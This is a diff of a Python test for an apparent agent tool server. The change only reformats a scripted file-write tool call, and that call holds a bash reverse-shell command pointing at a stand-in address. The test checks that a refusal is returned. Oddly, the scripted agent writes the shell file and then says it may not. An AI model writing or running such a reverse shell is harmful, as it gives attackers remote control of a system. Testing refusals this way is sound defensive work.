@@ -237,10 +237,7 @@ class TestTheExamplesOfTheManifest:
 
     def test_what_a_file_may_not_hold(self, talk: tuple[Talk, Any]) -> None:
         alice, server = talk
-        server.call_tool(
-            "archon.fs.write",
-            {"path": "a.sh", "content": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"},
-        )
+        server.call_tool("archon.fs.write", {"path": "a.sh", "content": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"})
         server.say("I may not write that. [STATUS: NULL]")
         done = alice.ask("Write a script that gives somebody a shell here")
         assert (done["state"], done["answer"]) == ("completed", "I may not write that."), done
